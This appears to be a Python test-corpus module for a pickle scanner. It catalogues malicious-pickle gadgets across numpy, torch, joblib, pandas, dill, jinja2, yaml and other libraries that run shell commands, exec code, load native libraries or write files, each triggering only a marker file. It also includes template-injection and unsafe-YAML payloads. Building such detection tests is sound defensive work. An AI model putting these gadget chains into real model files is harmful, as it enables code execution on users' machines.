"""Pickles that call functions of machine-learning and other common libraries which run code or touch files."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

from tests.corpus.opcodes import call, method, name, named, program
from tests.corpus.payload import CODE, EXPRESSION, IMPORTING, MARK, SHELL
from tests.corpus.technique import table

INNER = program(call("os:system", SHELL))
ARRAY = call("numpy:ones", 3)
TOUCH = ["touch", MARK]
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch hauberk-mark').read() }}"


def _npy() -> bytes:
    """A .npy whose objects are the inner pickle: header by hand, no numpy."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + INNER


def beside(other: str, row: bytes, octets: bytes = INNER) -> object:
    return lambda: {"model.pkl": program(row), other: octets}


ROWS = {
    "numpy": {
        "runstring": call("numpy.testing._private.utils:runstring", CODE, {}),
        "f2py-eval": call("numpy.f2py.crackfortran:myeval", IMPORTING),
        "f2py-param-eval": call("numpy.f2py.crackfortran:param_eval", IMPORTING, {}, {}, None),
        "f2py-get-lincoef": call("numpy.f2py.crackfortran:getlincoef", IMPORTING, {"x": 0}),
        "save": call("numpy:save", MARK, [1]),
        "savetxt": call("numpy:savetxt", MARK, [1]),
        "savez": call("numpy:savez", MARK, [1]),
        "tofile": call("numpy:ndarray.tofile", ARRAY, MARK),
        "dump": call("numpy:ndarray.dump", ARRAY, MARK),
        "memmap": named("numpy:memmap", MARK, dtype="u1", mode="w+", shape=(1,)),
        "open-memmap": named("numpy.lib.format:open_memmap", MARK, "w+", shape=(1,)),
        "builtins-get": call(call("numpy:__builtins__.get", "eval"), EXPRESSION),
        "dotted-os": call("numpy.lib._npyio_impl:os.system", SHELL),
        "frompyfunc": call(call("numpy:frompyfunc", name("builtins:exec"), 1, 1), CODE),
        "vectorize": call(call("numpy:vectorize", name("os:system")), [SHELL]),
        "fromiter": call("numpy:fromiter", call("builtins:map", name("os:system"), [SHELL]), "i8"),
        "load-nested": beside("x.npy", call("numpy:load", "x.npy", None, True), _npy()),
        "ctypeslib": beside("payload.so", call("numpy.ctypeslib:load_library", "payload", ".")),
        "array-function-setstate": call("numpy:ndarray.__setstate__", call("numpy:ndarray", (0,)),
            (1, (1,), call("numpy:dtype", "O"), False, call("builtins:list", call(
                "builtins:map", name("os:system"), [SHELL])))),
    },
    "torch": {
        "collect-env-run": call("torch.utils.collect_env:run", SHELL),
        "exec-wrapper": call("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {}),
        "forward-from-src": call("torch.fx.graph_module:_forward_from_src",
                                 CODE + "\ndef forward(): pass", {}),
        "exec-with-source": call("torch.fx.graph_module:_exec_with_source", CODE, {}),
        "guards-expression": call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
                                  None, EXPRESSION, []),
        "load-nested": beside("x.pt", call("torch:load", "x.pt", None, name("torch.serialization:pickle"))),
        "serialization-pickle": call("torch.serialization:pickle.loads", INNER),
        "decoder-basichandlers": call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", INNER),
        "pycodecache": call("torch._inductor.codecache:PyCodeCache.load", CODE),
        "config-load": call("torch.utils._config_module:pickle.loads", INNER),
        "save": call("torch:save", 1, MARK),
        "from-file": call("torch:from_file", MARK, True, 1),
        "untyped-from-file": call("torch:UntypedStorage.from_file", MARK, True, 1),
        "hub-load-local": beside("hubconf.py", named("torch.hub:load", ".", "x", source="local"), CODE.encode()),
        "hub-import": beside("payload.py", call("torch.hub:_import_module", "payload", "payload.py"),
                             CODE.encode()),
        "cpp-extension-ninja": call("torch.utils.cpp_extension:subprocess.getoutput", SHELL),
        "load-library": call("torch:ops.load_library", "payload.so"),
        "classes-load-library": call("torch:classes.load_library", "payload.so"),
        "dotted-os": call("torch:os.system", SHELL),
        "dotted-serialization-os": call("torch.serialization:os.system", SHELL),
        "rebuild-from-type": call("torch._tensor:_rebuild_from_type_v2", name("os:system"),
                                  name("torch:Tensor"), (SHELL,), {}),
        "tree-map-all": call("torch.utils._pytree:tree_map", name("os:system"), [SHELL]),
        "tree-map": call("torch.utils._pytree:tree_map_only", name("builtins:str"), name("os:system"), [SHELL]),
        "checkpoint": named("torch.utils.checkpoint:checkpoint", name("os:system"), SHELL, use_reentrant=False),
        "rebuild-parameter": call("torch._utils:_rebuild_parameter_with_state", call("torch:ones", 1), False,
                    call("collections:OrderedDict"), call("os:system", SHELL)),
    },
    "joblib": {
        "print-time": call("joblib.logger:PrintTime", f"{MARK}/log"),
        "memory": call("joblib:Memory.cache", call("joblib:Memory", MARK), name("math:floor")),
        "dump": call("joblib:dump", 1, MARK),
        "load-nested": beside("x.joblib", call("joblib:load", "x.joblib")),
        "parallel-batch": call(call("joblib:Parallel"), [(name("os:system"), (SHELL,), {})]),
        "loky-execute": call("joblib.externals.loky.backend.utils:subprocess.getoutput", SHELL),
        "dotted-os": call("joblib._memmapping_reducer:os.system", SHELL),
        "mkdirp": call("joblib.disk:mkdirp", MARK),
    },
    "sklearn": {
        "function-transformer": method("sklearn.preprocessing:FunctionTransformer", "transform",
            call("sklearn.preprocessing:FunctionTransformer", name("os:system")), SHELL),
        "dump-svmlight": call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1], MARK),
        "export-graphviz-dotted": call("sklearn.datasets._base:os.system", SHELL),
        "assert-script": call("sklearn.utils._testing:assert_run_python_script_without_output", CODE),
        "data-home": call("sklearn.datasets:get_data_home", MARK),
        "utils-path": call(call("builtins:getattr", call("sklearn.utils._show_versions:sys.modules.get", "os"),
                    "system"), SHELL),
    },
    "pandas": {
        "read-pickle": beside("x.pkl", call("pandas:read_pickle", "x.pkl")),
        "to-pickle": call("pandas:to_pickle", 1, MARK),
        "to-csv": call("pandas:DataFrame.to_csv", call("pandas:DataFrame", [1]), MARK),
        "eval": named("pandas:eval", "o.system('touch hauberk-mark')", engine="python",
                      local_dict={"o": name("posixpath:os")}),
        "query": named("pandas:DataFrame.eval", call("pandas:DataFrame", {"a": [1]}),
                       "@o.system('touch hauberk-mark')", engine="python",
                       local_dict={"o": name("posixpath:os")}),
        "get-handle": call("pandas.io.common:get_handle", MARK, "w"),
        "apply": call("pandas:Series.apply", call("pandas:Series", [SHELL]), name("os:system")),
        "map": call("pandas:Series.map", call("pandas:Series", [SHELL]), name("os:system")),
        "compat-load": call("pandas.compat.pickle_compat:Unpickler.load", call(
            "pandas.compat.pickle_compat:Unpickler", call("io:BytesIO", INNER))),
        "clipboard": call("pandas.io.clipboard:subprocess.getoutput", SHELL),
    },
    "scipy": {
        "savemat": call("scipy.io:savemat", MARK, {}),
        "map-wrapper": call("builtins:list", call(
                   "scipy._lib._util:MapWrapper.__call__", call("scipy._lib._util:MapWrapper", 1),
                   name("os:system"), [SHELL])),
        "fortran-file": call("scipy.io:FortranFile", MARK, "w"),
        "netcdf-file": call("scipy.io:netcdf_file", MARK, "w"),
        "wavfile": call("scipy.io.wavfile:write", MARK, 8000, ARRAY),
    },
    "dill": {
        "loads": call("dill:loads", INNER),
        "inner-loads": call("dill._dill:loads", INNER),
        "create-code": call(call("dill._dill:_create_function", call("builtins:compile", CODE, "m", "exec"),
                                 {})),
        "eval-repr": call("dill._dill:_eval_repr", EXPRESSION),
        "import-module": call(call("builtins:getattr", call("dill._dill:_import_module", "os"), "system"), SHELL),
        "get-attr": call(call("dill._dill:_get_attr", name("posixpath:os"), "system"), SHELL),
        "create-filehandle": call("dill._dill:_create_filehandle", MARK, "w", 0, False, name("builtins:open"),
                                  False, 2, ""),
        "temp-load": call("dill.temp:loadIO", call("io:BytesIO", INNER)),
    },
    "cloudpickle": {
        "loads": call("cloudpickle:loads", INNER),
        "make-function": call(call("cloudpickle.cloudpickle:_make_function",
            call("builtins:compile", CODE, "m", "exec"), {"__builtins__": name("builtins:__dict__")}, None, None,
            None)),
        "subimport": call(call("builtins:getattr", call("cloudpickle.cloudpickle:subimport", "os"),
                               "system"), SHELL),
        "builtin-type": call(call(call("cloudpickle.cloudpickle:_builtin_type", "FunctionType"),
                                call("builtins:compile", CODE, "m", "exec"), {})),
    },
    "jinja2": {
        "template-render": call("jinja2:Template.render", call("jinja2:Template", TEMPLATE)),
        "import-string": call(call("jinja2.utils:import_string", "os:system"), SHELL),
        "native-template": call("jinja2.nativetypes:NativeTemplate.render",
                                call("jinja2.nativetypes:NativeTemplate", TEMPLATE)),
    },
    "yaml": {
        "unsafe-load": call("yaml:unsafe_load", f"!!python/object/apply:os.system ['touch {MARK}']"),
        "load-loader": call("yaml:load", f"!!python/object/apply:os.system ['touch {MARK}']",
                            name("yaml:UnsafeLoader")),
    },
    "sympy": {
        "sympify": call("sympy:sympify", IMPORTING),
        "parse-expr": call("sympy.parsing.sympy_parser:parse_expr", IMPORTING),
        "lambdify": call(call("sympy:lambdify", [], IMPORTING)),
    },
    "six": {"exec": call("six:exec_", CODE), "moves": call("six:moves.builtins.exec", CODE)},
    "PIL": {"image-save": call("PIL.Image:Image.save", call("PIL.Image:new", "L", (1, 1)), MARK, "PNG")},
    "psutil": {"popen": call("psutil:Popen", TOUCH)},
    "filelock": {"acquire": call("filelock:FileLock.acquire", call("filelock:FileLock", MARK))},
    "fsspec": {"local-touch": call("fsspec.implementations.local:LocalFileSystem.touch",
                                   call("fsspec.implementations.local:LocalFileSystem"), MARK),
               "open": call("fsspec.core:OpenFile.open", call("fsspec:open", MARK, "w"))},
    "graphviz": {"run-check": call("graphviz.backend.execute:run_check", TOUCH),
                 "save": call("graphviz:Source.save", call("graphviz:Source", "x"), MARK)},
    "h5py": {"file": call("h5py:File", MARK, "w")},
    "tables": {"open-file": call("tables:open_file", MARK, "w")},
    "pyarrow": {"os-file": call("pyarrow:OSFile", MARK, "w")},
    "xgboost": {"save-model": call("xgboost:Booster.save_model", call("xgboost:Booster"), MARK)},
    "lightgbm": {"dataset-dotted": call("lightgbm.basic:json.codecs.open", MARK, "w"),
                 "booster-init": call("lightgbm.basic:ctypes.CDLL", "payload.so")},
    "catboost": {"dotted": call("catboost.core:os.system", SHELL)},
    "transformers": {
        "run-command": call("transformers.utils.hub:os.system", SHELL),
        "dynamic-module": call("transformers.dynamic_module_utils:importlib.import_module", "antigravity"),
    },
    "keras": {"func-load": call("keras.src.utils.python_utils:marshal.loads", b"N")},
    "matplotlib": {"savefig": call("matplotlib.pyplot:savefig", MARK)},
    "networkx": {"write": call("networkx:write_adjlist", call("networkx:Graph"), MARK)},
    "setuptools": {"spawn": call("setuptools._distutils.spawn:spawn", TOUCH)},
    "click": {"open-file": call("click:open_file", MARK, "w")},
    "onnx": {"save": call("onnx:save_model", b"", MARK)},
    "regex": {"callback": call("regex:sub", "x", call("functools:partial", name("subprocess:Popen"), TOUCH,
                               -1, None, None, None, None, None, True, False, None, None), "x")},
    "msgpack": {"object-hook": named("msgpack:unpackb", b"\x80", object_hook=call(
        "functools:partial", name("subprocess:Popen"), TOUCH, -1, None, None, None, None, None, True, False, None,
        None))},
    "pydantic": {"import-string": call(call(
                 "pydantic._internal._validators:import_string", "os.system"), SHELL)},
    "requests": {"get": call("requests:get", "http://127.0.0.1:9/")},
    "huggingface_hub": {"download": call("huggingface_hub.file_download:os.system", SHELL)},
}  # fmt: skip
_EFFECTS = {"torch-load-library": "ctypes.dlopen", "torch-classes-load-library": "ctypes.dlopen",
            "numpy-ctypeslib": "ctypes.dlopen", "requests-get": "socket.connect",
            "lightgbm-booster-init": "ctypes.dlopen", "transformers-dynamic-module": "webbrowser.open",
            "keras-func-load": "marshal.loads"}  # fmt: skip

for _library, _rows in ROWS.items():
    for _key, _row in _rows.items():
        _name = f"{_library.lower()}-{_key}"
        _made = _row if callable(_row) else program(_row)
        table("pickle-libraries", "model.pkl", f"pickle:{_library}", {_name: _made},
              effect=_EFFECTS.get(_name, "mark"))  # fmt: skip
